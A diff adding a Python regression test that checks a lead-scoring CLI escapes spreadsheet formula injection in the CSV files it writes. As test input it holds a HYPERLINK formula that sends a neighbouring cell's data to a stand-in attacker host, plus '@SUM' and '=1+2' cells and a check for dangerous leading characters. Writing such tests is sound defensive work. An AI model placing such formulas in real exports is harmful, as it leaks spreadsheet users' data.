@@ -3,6 +3,7 @@ each test sends what an attacker did and holds the defence. On SQLite and Postgr
 
 from __future__ import annotations
 
+import csv
 import time
 import tracemalloc
 from collections.abc import Iterator
@@ -137,3 +138,46 @@ def test_a_hostile_email_template_is_stopped_while_it_renders(
     assert answer.status_code == 422, answer.text
     assert reason in answer.json()["detail"] and "text" in answer.json()["detail"], answer.json()
     assert elapsed < 5.0 and peak < 100_000_000, (elapsed, peak)
+
+
+def test_no_csv_the_product_writes_holds_a_cell_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    """An event id `=HYPERLINK(...)` was written unchanged into `qualify rescore --explain x.csv`."""
+    runner, db = CliRunner(), ["--db", f"sqlite:///{tmp_path / 'w.db'}"]
+    assert runner.invoke(app, ["init", *db]).exit_code == 0
+    formula = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
+    events = write_csv(
+        tmp_path / "events.csv",
+        ["event_id", "email", "type", "occurred_at"],
+        [
+            [formula, "ann@acme.com", "demo_request", "2026-01-05T10:00:00Z"],
+            ["@SUM(1+1)", "ann@acme.com", "page_view", "2026-01-06T10:00:00Z"],
+            ["e-3", "ann@acme.com", "page_view", "not a time"],
+        ],
+    )
+    # A rejected line that begins with a formula: the rejects file keeps it, quoted.
+    leads = tmp_path / "leads.csv"
+    leads.write_text('email,title\n"=1+2",Boss\n', encoding="utf-8")
+    imported = runner.invoke(app, ["import", "events", str(events), *db, "--json"])
+    assert imported.exit_code in (0, 1), imported.output
+    rejected = runner.invoke(app, ["import", "leads", str(leads), *db, "--json"])
+    assert rejected.exit_code in (0, 1), rejected.output
+    explain = tmp_path / "explain.csv"
+    out = tmp_path / "scores.csv"
+    done = runner.invoke(app, ["rescore", *db, "--explain", str(explain), "--out", str(out)])
+    assert done.exit_code == 0, done.output
+    written = [explain, out, *tmp_path.glob("*rejects*.csv")]
+    assert len(written) >= 4, written
+    cells = [cell for path in written for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
+    dangerous = [
+        c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and not _number(c))
+    ]
+    assert not dangerous, dangerous
+    assert "'" + formula in cells and "'@SUM(1+1)" in cells
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
